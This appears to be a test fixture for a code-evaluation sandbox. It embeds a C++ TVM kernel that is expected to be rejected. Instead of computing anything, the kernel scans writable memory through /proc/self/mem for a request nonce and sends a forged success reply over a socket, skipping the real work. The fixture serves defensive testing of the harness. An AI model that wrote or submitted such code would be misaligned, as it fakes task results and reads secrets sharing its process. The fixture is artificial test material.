"""Searches all of its memory for the request's nonce and answers by itself, without work. Target: secrets
that share a process."""

EXPECT = "rejected"
LANGUAGE = "cpp"
SOURCE = """\
#include <tvm/ffi/container/tensor.h>
#include <tvm/ffi/function.h>
#include <cstdio>
#include <cstring>
#include <fcntl.h>
#include <string>
#include <sys/socket.h>
#include <unistd.h>
#include <vector>

static void Answer() {
  const int memory = open("/proc/self/mem", O_RDONLY);
  FILE* maps = std::fopen("/proc/self/maps", "r");
  char line[512];
  std::vector<char> piece;
  while (maps && std::fgets(line, sizeof line, maps)) {
    unsigned long begin = 0, end = 0;
    if (std::sscanf(line, "%lx-%lx rw", &begin, &end) != 2 || !std::strstr(line, " rw-p ")) continue;
    for (unsigned long at = begin; at < end && at < begin + (16ul << 20); at += 1ul << 20) {
      piece.resize(1ul << 20);
      const auto got = pread(memory, piece.data(), piece.size(), static_cast<off_t>(at));
      if (got < 64) continue;
      const std::string text(piece.data(), static_cast<std::size_t>(got));
      const std::string key = std::string("\\"non") + "ce\\": \\"";
      for (auto found = text.find(key); found != std::string::npos; found = text.find(key, found + 1)) {
        const auto nonce = text.substr(found + key.size(), 32);
        if (nonce.find_first_not_of("0123456789abcdef") != std::string::npos) continue;
        const auto answer = "{" + key + nonce + "\\", \\"ok\\": true}";
        (void)!send(3, answer.data(), answer.size(), MSG_DONTWAIT);
      }
    }
  }
  if (maps) std::fclose(maps);
  close(memory);
}
void Run(tvm::ffi::TensorView, tvm::ffi::TensorView, tvm::ffi::TensorView) {
  Answer();
  _exit(0);
}
TVM_FFI_DLL_EXPORT_TYPED_FUNC(run, Run);
"""
